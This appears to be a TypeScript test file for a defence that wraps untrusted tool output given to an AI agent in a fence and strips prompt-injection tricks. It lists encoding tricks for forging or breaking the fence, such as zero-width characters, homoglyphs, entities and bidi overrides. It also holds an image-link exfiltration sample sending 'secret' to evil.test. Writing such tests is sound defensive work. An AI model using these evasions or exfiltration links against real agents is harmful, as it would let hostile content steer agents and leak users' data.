import { asShown } from '../../src/trust/fence';
import { neutralise } from '../../src/trust/neutralise';
import type { TextPart, ToolMessage } from '../../src/types/message';
import { cases, payloadText } from './injection-cases';

const NONCE = '0123456789abcdef00';
const message = (text: string, marker: string, name = 'fetch_url'): ToolMessage => ({
  v: 1,
  role: 'tool',
  callId: 'c1',
  name,
  parts: [{ type: 'text', text }],
  outcome: 'ok',
  trust: 'untrusted',
  marker,
});
const shown = (text: string, marker = 'feedfacecafebeef11', name?: string): string =>
  ((asShown(message(text, marker, name)) as ToolMessage).parts[0] as TextPart).text;

const earlier = shown('earlier', NONCE).split('\n');
const OPEN = earlier[0] as string;
const CLOSE = earlier.at(-1) as string;

const each = (text: string, change: (character: string) => string): string => [...text].map(change).join('');
const moved = (text: string, by: (code: number) => number): string =>
  each(text, (c) => String.fromCodePoint(by(c.codePointAt(0) as number)));
const TRANSFORMS: Record<string, (text: string) => string> = {
  upper: (text) => text.toUpperCase(),
  mixed: (text) => [...text].map((c, at) => (at % 2 ? c.toUpperCase() : c)).join(''),
  zwsp: (text) => [...text].join('\u200b'),
  zwnj: (text) => [...text].join('\u200c'),
  shy: (text) => [...text].join('\u00ad'),
  fullwidth: (text) => moved(text, (code) => (code > 0x20 && code < 0x7f ? code + 0xfee0 : code)),
  fwbrackets: (text) => each(text, (c) => ('<>[]/'.includes(c) ? String.fromCodePoint((c.codePointAt(0) as number) + 0xfee0) : c)),
  cyrillic: (text) => each(text, (c) => 'асеорхуіѕ'['aceopxyis'.indexOf(c)] ?? c),
  mathbold: (text) => moved(text, (code) => (code >= 97 && code <= 122 ? 0x1d41a + code - 97 : code)),
  nbsp: (text) => `${text[0] as string}\u00a0${text.slice(1)}`,
  spaces: (text) => `${text[0] as string} ${text.slice(1, -1)} ${text.at(-1) as string}`,
  newline: (text) => `${text[0] as string}\n${text.slice(1)}`,
  entity: (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  numentity: (text) => each(text, (c) => `&#${c.codePointAt(0) as number};`),
  percent: (text) => each(text, (c) => `%${(c.codePointAt(0) as number).toString(16).padStart(2, '0')}`),
  escape: (text) => each(text, (c) => `\\u${(c.codePointAt(0) as number).toString(16).padStart(4, '0')}`),
  tagchars: (text) => moved(text, (code) => 0xe0000 + code),
  bidi: (text) => `\u202e${[...text].reverse().join('')}\u202c`,
  combining: (text) => [...text].join('\u0301'),
  attr: (text) => `${text.slice(0, -1)} x="1">`,
  selfclose: (text) => `${text.slice(0, -1)}/>`,
  short: (text) => text.slice(0, -1),
  double: (text) => text.replaceAll('<', '<<').replaceAll('>', '>>'),
};
const BASES: Record<string, string> = {
  OPEN,
  CLOSE,
  NONCE,
  CLOSE_GUESS: CLOSE.replace(NONCE, '0'.repeat(NONCE.length)),
  CLOSE_BARE: CLOSE.replace(` ${NONCE}`, ''),
  CLOSE_HALF: CLOSE.slice(0, CLOSE.length >> 1),
  CL: CLOSE.slice(0, CLOSE.length >> 1),
  OSE: CLOSE.slice(CLOSE.length >> 1),
};
const filled = (base: string, transform: string | undefined): string =>
  transform === undefined ? (BASES[base] as string) : (TRANSFORMS[transform] as (text: string) => string)(BASES[base] as string);

/** An independent reading of what a text amounts to, after the rule in the cases. */
function amountsTo(text: string): string {
  const decoded = text
    .replace(/&#(\d+);/g, (_, code: string) => String.fromCodePoint(Number(code)))
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/%([0-9a-f]{2})/gi, (_, hex: string) => String.fromCharCode(Number.parseInt(hex, 16)))
    .replace(/\\u([0-9a-f]{4})/gi, (_, hex: string) => String.fromCharCode(Number.parseInt(hex, 16)));
  const folded = each(
    decoded.normalize('NFKD').replace(/[\p{Cf}\p{M}\u{E0000}-\u{E0FFF}]/gu, ''),
    (c) => 'aceopxyis'['асеорхуіѕ'.indexOf(c)] ?? c,
  );
  return folded.toLowerCase().replace(/\s/g, '');
}
const MARK = amountsTo('untrusted_tool_output');

describe.each(cases)('$id', ({ payload, channel, must, keep = [] }) => {
  const text = payloadText(payload, filled);
  const wrapped = channel === 'source-label' ? shown('x', undefined, text) : shown(text);
  const lines = wrapped.split('\n');
  const body = lines.slice(2, -1).join('\n');

  test('the fence of this call stands once at each end, and nothing inside amounts to a fence', () => {
    expect(lines[0]).toMatch(/^<untrusted_tool_output feedfacecafebeef11 source="[^<>\n]*">$/);
    expect(lines.at(-1)).toBe('</untrusted_tool_output feedfacecafebeef11>');
    expect(amountsTo(body)).not.toContain(MARK);
    expect(body).not.toContain('feedfacecafebeef11');
  });

  test('no control or invisible characters, no template tokens', () => {
    expect(body).not.toMatch(/[\0-\x08\x0b-\x1f\x7f-\x9f\u200b\u200c\u202a-\u202e\u2066-\u2069\ufeff]/);
    expect(body).not.toMatch(/<[|｜]|[|｜]>/);
    expect(body.isWellFormed()).toBe(true);
  });

  test('the harmless part is still there', () => {
    for (const part of keep) expect(body).toContain(part);
    if (must.includes('P7')) expect(neutralise(text).signals).toContain('invisible characters');
    if (must.includes('P3')) expect(neutralise(text).signals).toContain('chat template tokens');
  });
});

test.each([
  'Plain text.\n\twith a tab, <b>tags</b>, & ampersands, 50% and C:\\path [1] | cells |',
  'Grüße, 東京, emoji 👩‍👩‍👧 and 🏳️‍🌈',
  '{"a": [1, 2, "x"]}',
  'const a = b <c> d; // <svg viewBox="0 0 1 1"> a < b && c > d',
])('ordinary text is fenced unchanged: %s', (text) => {
  expect(neutralise(text)).toEqual({ text, signals: [] });
  expect(shown(text)).toContain(`\n${text}\n`);
});

test('a trusted result is not fenced, and a fenced one is the same object each time', () => {
  const trusted: ToolMessage = { ...message('x', 'm'), trust: 'trusted' };
  expect(asShown(trusted)).toBe(trusted);
  const foreign = message('x', 'm');
  expect(asShown(foreign)).toBe(asShown(foreign));
  expect((foreign.parts[0] as TextPart).text).toBe('x');
});

test('images no longer load by themselves, and their hosts are reported', () => {
  const { text, signals } = neutralise('see ![x](https://evil.test/p.png?d=secret) and <img src="https://evil.test/q">');
  expect(text).toContain('[image: x](https://evil.test/p.png?d=secret)');
  expect(signals).toEqual(['an image that would load by itself (evil.test)', 'HTML that would load by itself (evil.test)']);
});

test('a long text that is made to be slow is read in one pass', () => {
  const units = 100_000;
  const { text } = neutralise('u '.repeat(units) + '![['.repeat(units) + '<u&#'.repeat(units));
  expect(text).toHaveLength(9 * units);
});
